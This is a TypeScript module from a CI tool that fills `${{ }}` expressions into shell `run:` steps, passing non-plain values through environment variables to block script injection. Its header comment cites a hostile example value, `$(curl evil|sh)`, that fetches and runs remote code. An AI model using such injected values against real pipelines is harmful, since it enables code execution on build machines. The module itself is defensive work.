/**
 * A `run:` step's command with its `${{ }}` expressions filled in, safely
 * wherever they stand. A value that is a plain word (`42`, `models:/churn/3`)
 * is written inline. Any other value never enters the script's text: it
 * reaches the process as an environment variable (`CICLO_EXPR_<n>`) that the
 * command expands in place, and a variable's value is not parsed as shell
 * wherever it is expanded. Quoting the value into the text instead is what
 * GitHub Actions' script-injection class is about, and ciclo had it: a
 * single-quoted word inside the author's own double quotes
 * (`echo "ref ${{ inputs.ref }}"` with `$(curl evil|sh)`) or inside a `$( )`
 * ran the value's commands. Where the expression stands only decides how the
 * variable is written so the value prints as it is: `"${CICLO_EXPR_1}"` bare,
 * `${CICLO_EXPR_1}` inside double quotes, `'"${CICLO_EXPR_1}"'` inside single
 * quotes — a misreading of the quoting changes the text printed, never what runs.
 * @module
 */
import { quoteState, variableReference } from "../../shared/shell-quoting.js";
import { evaluate, parseTemplate, stringify, type ExpressionContext } from "../definition/expression.js";

export interface RunCommand {
  shell: string;
  /** Variables the command expands: each value that is not a plain word. */
  env: Record<string, string>;
}

/** Characters that never need quoting (shlex.quote's safe set, as shell-quote.ts). */
const PLAIN_WORD = /^[A-Za-z0-9@%+=:,./_-]+$/;

export function renderRunCommand(text: string, ctx: ExpressionContext): RunCommand {
  const parts = parseTemplate(text);
  const env: Record<string, string> = {};
  let shell = "";
  let at = 0;
  let n = 0;
  for (const part of parts) {
    const value = stringify(evaluate(part.expr, ctx));
    let word = value;
    if (!PLAIN_WORD.test(value)) {
      if (value.includes("\0")) throw new Error("A value in a run: command cannot contain a NUL character.");
      const name = `CICLO_EXPR_${++n}`;
      env[name] = value;
      word = variableReference(name, quoteState(text, parts, part.offset));
    }
    shell += text.slice(at, part.offset) + word;
    at = part.end;
  }
  return { shell: shell + text.slice(at), env };
}
